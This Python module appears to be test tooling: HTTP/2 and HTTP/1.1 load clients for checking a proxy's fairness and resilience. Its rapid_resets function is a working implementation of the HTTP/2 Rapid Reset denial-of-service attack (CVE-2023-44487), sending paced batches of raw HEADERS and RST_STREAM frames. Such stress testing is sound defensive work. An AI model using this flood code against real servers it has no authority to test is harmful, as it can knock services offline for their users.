"""Small clients for the fairness and soak loads: HTTP/2 (h2c, prior knowledge) and HTTP/1.1.

``H2Peer`` wraps the ``h2`` package with the flow control in the caller's
hands: a stream is read either at full speed (every byte consumed is given
back) or held (its window stays shut: a client that stopped reading), and
the caller may reset it. ``rapid_resets`` writes HEADERS + RST_STREAM pairs
as raw frames (CVE-2023-44487's shape), each batch followed by a PING whose ACK paces the next (so every reset is
read by the proxy, none waits in socket buffers), reconnecting after a
GOAWAY. ``H1Peer`` is one keep-alive HTTP/1.1
connection that downloads (optionally with pauses), uploads and can vanish
(close with RST). Every wait has a deadline; nothing here keeps a body.
"""

from __future__ import annotations

import math
import select
import socket
import struct
import threading
import time
from dataclasses import dataclass, field
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

MIB = 1 << 20
CANCEL = 0x8
GIVE_BACK = 64 * 1024  # credit is returned in pieces at least this big


class PeerError(Exception):
    """The proxy answered wrongly, reset, closed or timed out; the text says which."""


@dataclass
class H2Stream:
    sid: int
    held: bool = False
    status: int | None = None
    received: int = 0
    to_send: int = 0          # request body bytes still to upload
    ended: bool = False
    reset_code: int | None = None
    upload: memoryview | None = None

    @property
    def done(self) -> bool:
        return self.ended or self.reset_code is not None


@dataclass
class H2Peer:
    """One h2c connection. ``initial_window=0``: every stream starts with a shut window."""

    addr: tuple[str, int]
    authority: str
    initial_window: int | None = None
    timeout: float = 10.0
    streams: dict[int, H2Stream] = field(default_factory=dict)
    goaway: int | None = None
    eof: bool = False

    def __post_init__(self) -> None:
        self.sock = socket.create_connection(self.addr, timeout=self.timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        self.conn.initiate_connection()
        self.conn_owed = 0
        if self.initial_window is not None:
            self.conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: self.initial_window})
        self.conn.increment_flow_control_window(4 * MIB)
        self.flush()
        if self.initial_window is not None:
            self.wait(lambda: self.conn.local_settings.initial_window_size == self.initial_window, self.timeout,
                      "the SETTINGS ACK")

    # -- writing -----------------------------------------------------------------
    def flush(self) -> None:
        out = self.conn.data_to_send()
        if out:
            self.sock.settimeout(self.timeout)
            self.sock.sendall(out)

    def request(self, method: str = "GET", path: str = "/", held: bool = False, body: int = 0) -> int:
        """Open a stream; ``body`` bytes (a fixed pattern) are sent as the windows allow."""
        sid = self.conn.get_next_available_stream_id()
        fields = [(b":method", method.encode()), (b":scheme", b"http"), (b":authority", self.authority.encode()),
                  (b":path", path.encode())]
        if body:
            fields.append((b"content-length", str(body).encode()))
        self.streams[sid] = stream = H2Stream(sid, held=held)
        self.conn.send_headers(sid, fields, end_stream=not body)
        if body:
            stream.upload = memoryview(bytes(min(body, MIB)))
            stream.to_send = body
        self._send_uploads()
        self.flush()
        return sid

    def _send_uploads(self) -> None:
        for stream in self.streams.values():
            if stream.upload is None or stream.done:
                continue
            try:
                while stream.to_send > 0:
                    room = min(self.conn.local_flow_control_window(stream.sid), self.conn.max_outbound_frame_size,
                               stream.to_send, len(stream.upload))
                    if room <= 0:
                        break
                    self.conn.send_data(stream.sid, stream.upload[:room].tobytes())
                    stream.to_send -= room
                if stream.to_send == 0:
                    self.conn.end_stream(stream.sid)
                    stream.upload = None
            except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                stream.upload, stream.to_send = None, 0

    def reset(self, sid: int) -> None:
        try:
            self.conn.reset_stream(sid, CANCEL)
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
            pass
        stream = self.streams.get(sid)
        if stream is not None and stream.reset_code is None:
            stream.reset_code = CANCEL
        self.flush()

    def grant(self, sid: int, amount: int) -> None:
        """Open a held stream's window by ``amount``."""
        try:
            self.conn.increment_flow_control_window(amount, stream_id=sid)
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, KeyError):
            pass
        self.flush()

    def release(self, sid: int) -> None:
        """Stop holding ``sid``: read it at full speed from now on."""
        stream = self.streams[sid]
        stream.held = False
        self.grant(sid, MIB)

    # -- reading -----------------------------------------------------------------
    def pump(self, deadline: float) -> None:
        remaining = max(0.0, deadline - time.monotonic())
        readable, _, _ = select.select([self.sock], [], [], min(remaining, 0.1))
        if not readable:
            return
        try:
            data = self.sock.recv(1 << 18)
        except OSError:
            data = b""
        if not data:
            self.eof = True
            return
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError as err:
            raise PeerError(f"protocol error from the proxy: {err!r}") from None
        for event in events:
            self._event(event)
        self._send_uploads()
        self.flush()

    def _event(self, event: Any) -> None:
        stream = self.streams.get(getattr(event, "stream_id", None) or 0)
        if isinstance(event, h2.events.ResponseReceived) and stream is not None:
            stream.status = int(dict(event.headers)[b":status"])
        elif isinstance(event, h2.events.DataReceived) and event.flow_controlled_length > 0:
            size = event.flow_controlled_length
            self.conn_owed += size
            if self.conn_owed >= GIVE_BACK:
                self.conn.increment_flow_control_window(self.conn_owed)
                self.conn_owed = 0
            if stream is None:
                return
            stream.received += len(event.data)
            if not stream.held:
                try:
                    self.conn.increment_flow_control_window(size, stream_id=stream.sid)
                except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                    pass
        elif isinstance(event, h2.events.StreamEnded) and stream is not None:
            stream.ended = True
        elif isinstance(event, h2.events.StreamReset) and stream is not None:
            stream.reset_code = event.error_code
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway = event.error_code

    def wait(self, predicate: Any, timeout: float, what: str) -> None:
        end = time.monotonic() + timeout
        while not predicate():
            if self.eof:
                raise PeerError(f"connection closed waiting for {what} (GOAWAY {self.goaway})")
            if time.monotonic() > end:
                raise PeerError(f"{what}: no answer within {timeout:g} s")
            self.pump(end)

    def exchange(self, path: str = "/", timeout: float = 2.0, method: str = "GET", body: int = 0) -> H2Stream:
        """One whole request at full speed; raises PeerError on anything but a complete 2xx."""
        sid = self.request(method, path, body=body)
        stream = self.streams[sid]
        self.wait(lambda: stream.done, timeout, f"stream {sid}")
        del self.streams[sid]
        if stream.status is None or not 200 <= stream.status < 300:
            raise PeerError(f"status {stream.status}" + (f", reset ({stream.reset_code})" if stream.reset_code else ""))
        if stream.reset_code:  # NO_ERROR after a whole answer: the server needed no more of the body
            raise PeerError(f"stream reset ({stream.reset_code})")
        return stream

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


# ---------------------------------------------------------------------------
# rapid reset


def _frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST, _SETTINGS, _PING, _GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7


def _request_block(authority: str, path: str) -> bytes:
    # HPACK without the dynamic table: :method GET, :scheme http (static 2, 6), :path as a
    # literal (name 4), :authority as a literal (name 1); the same bytes fit every stream.
    def literal(index: int, value: bytes) -> bytes:
        assert len(value) < 127
        return bytes([index]) + bytes([len(value)]) + value

    return b"\x82\x86" + literal(4, path.encode()) + literal(1, authority.encode())


@dataclass
class ResetResult:
    resets: int = 0           # resets the proxy read (their batch's PING was answered)
    written: int = 0          # resets written, including those after which the proxy hung up
    connections: int = 0
    goaways: list[int] = field(default_factory=list)
    refused: int = 0
    stalls: int = 0           # batches whose PING got no answer within a second
    seconds: float = 0.0
    started: float = 0.0
    ended: float = 0.0


def rapid_resets(addr: tuple[str, int], authority: str, count: int, path: str = "/",
                 batch: int = 100, limit_s: float = 60.0) -> ResetResult:
    """``count`` HEADERS + RST_STREAM(CANCEL) pairs that the proxy actually reads: ``batch`` pairs and a
    PING per write, the next write once the PING's ACK came back (so nothing waits unread in socket
    buffers). After a GOAWAY or a close it reconnects and goes on. A reader thread ACKs SETTINGS,
    matches PING ACKs and records GOAWAYs."""
    result = ResetResult(started=time.monotonic())
    block = _request_block(authority, path)
    deadline = result.started + limit_s
    while result.resets < count and time.monotonic() < deadline:
        try:
            sock = socket.create_connection(addr, timeout=5)
        except OSError:
            result.refused += 1
            time.sleep(0.05)
            continue
        result.connections += 1
        lock = threading.Lock()
        closed = threading.Event()
        acked = threading.Condition()
        last_ack = [0]

        def reader(sock: socket.socket = sock, lock: threading.Lock = lock, closed: threading.Event = closed,
                   acked: threading.Condition = acked, last_ack: list[int] = last_ack) -> None:
            buf = b""
            try:
                while True:
                    data = sock.recv(1 << 16)
                    if not data:
                        break
                    buf += data
                    while len(buf) >= 9:
                        length = int.from_bytes(buf[:3], "big")
                        if len(buf) < 9 + length:
                            break
                        ftype, flags = buf[3], buf[4]
                        payload = buf[9:9 + length]
                        buf = buf[9 + length:]
                        if ftype == _SETTINGS and not flags & 1:
                            with lock:
                                sock.sendall(_frame(_SETTINGS, 1, 0))
                        elif ftype == _PING and flags & 1:
                            with acked:
                                last_ack[0] = int.from_bytes(payload, "big")
                                acked.notify_all()
                        elif ftype == _GOAWAY:
                            result.goaways.append(int.from_bytes(payload[4:8], "big"))
                            closed.set()
            except OSError:
                pass
            closed.set()
            with acked:
                acked.notify_all()

        thread = threading.Thread(target=reader, daemon=True)
        thread.start()
        sid, seq = 1, 0
        try:
            with lock:
                sock.sendall(PREFACE + _frame(_SETTINGS, 0, 0))
            while result.resets < count and not closed.is_set() and sid < (1 << 31) - 2 * batch:
                n = min(batch, count - result.resets)
                out = bytearray()
                for _ in range(n):
                    out += _frame(_HEADERS, 0x5, sid, block)  # END_STREAM | END_HEADERS
                    out += _frame(_RST, 0, sid, struct.pack(">I", CANCEL))
                    sid += 2
                seq += 1
                out += _frame(_PING, 0, 0, seq.to_bytes(8, "big"))
                with lock:
                    sock.sendall(out)
                result.written += n
                with acked:
                    acked.wait_for(
                        lambda seq=seq, last_ack=last_ack, closed=closed: last_ack[0] >= seq or closed.is_set(),
                        timeout=1.0)
                    answered = last_ack[0] >= seq
                if answered:
                    result.resets += n
                elif not closed.is_set():
                    result.stalls += 1
                    break  # the proxy stopped answering this connection: start another
        except OSError:
            pass
        finally:
            try:
                sock.close()
            except OSError:
                pass
            thread.join(2)
    result.ended = time.monotonic()
    result.seconds = result.ended - result.started
    return result


# ---------------------------------------------------------------------------
# HTTP/1.1


class H1Peer:
    """One keep-alive HTTP/1.1 connection; bodies are counted, never kept."""

    def __init__(self, addr: tuple[str, int], host: str, timeout: float = 10.0, rcvbuf: int | None = None) -> None:
        self.host = host
        self.timeout = timeout
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(timeout)
        self.sock.connect(addr)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = bytearray()
        self.scratch = bytearray(MIB)

    def send(self, method: str, path: str, body: int = 0) -> None:
        head = f"{method} {path} HTTP/1.1\r\nHost: {self.host}\r\n"
        if body:
            head += f"Content-Length: {body}\r\n"
        self.sock.settimeout(self.timeout)
        self.sock.sendall((head + "\r\n").encode())
        chunk = memoryview(bytes(min(body, MIB)))
        left = body
        while left:
            self.sock.sendall(chunk[:min(left, len(chunk))])
            left -= min(left, len(chunk))

    def _fill(self, deadline: float, size: int = 65536) -> None:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            raise PeerError("timed out")
        self.sock.settimeout(min(remaining, self.timeout))
        try:
            got = self.sock.recv_into(self.scratch, min(size, len(self.scratch)))
        except TimeoutError:
            raise PeerError("timed out") from None
        except OSError as err:
            raise PeerError(f"{type(err).__name__}") from None
        if not got:
            raise PeerError("connection closed")
        self.buf += memoryview(self.scratch)[:got]

    def response(self, deadline: float, pauses: int = 0, every: int = MIB, pause_s: float = 0.2,
                 stop_after: int | None = None) -> tuple[int, int]:
        """(status, body bytes read). ``pauses``: sleep ``pause_s`` after every ``every`` bytes that
        many times; ``stop_after``: return after that many body bytes (the rest unread)."""
        while b"\r\n\r\n" not in self.buf:
            self._fill(deadline)
        end = self.buf.index(b"\r\n\r\n") + 4
        head = bytes(self.buf[:end]).decode("latin-1")
        del self.buf[:end]
        status = int(head.split(" ", 2)[1])
        length = 0
        for line in head.split("\r\n")[1:]:
            name, _, value = line.partition(":")
            if name.strip().lower() == "content-length":
                length = int(value)
            elif name.strip().lower() == "transfer-encoding":
                raise PeerError("chunked answers are not expected here")
        got = 0
        next_pause = every if pauses else None
        while got < length:
            if not self.buf:
                want = length - got if next_pause is None else min(length - got, next_pause - got)
                self._fill(deadline, want)
            take = min(len(self.buf), length - got)
            if next_pause is not None:
                take = min(take, next_pause - got)
            del self.buf[:take]
            got += take
            if next_pause is not None and got >= next_pause:
                time.sleep(pause_s)
                pauses -= 1
                next_pause = None if pauses <= 0 else next_pause + every
            if stop_after is not None and got >= stop_after:
                return status, got
        return status, got

    def vanish(self) -> None:
        """Close with RST (SO_LINGER 0), like a client that went away."""
        try:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            pass
        self.close()

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def percentiles(values: list[float]) -> dict[str, float]:
    """p50, p90, p99, max of ``values`` (nearest rank); {} when empty."""
    if not values:
        return {}
    ordered = sorted(values)

    def rank(p: float) -> float:
        return ordered[min(len(ordered) - 1, max(0, math.ceil(p / 100 * len(ordered)) - 1))]

    return {"p50": rank(50), "p90": rank(90), "p99": rank(99), "max": ordered[-1]}
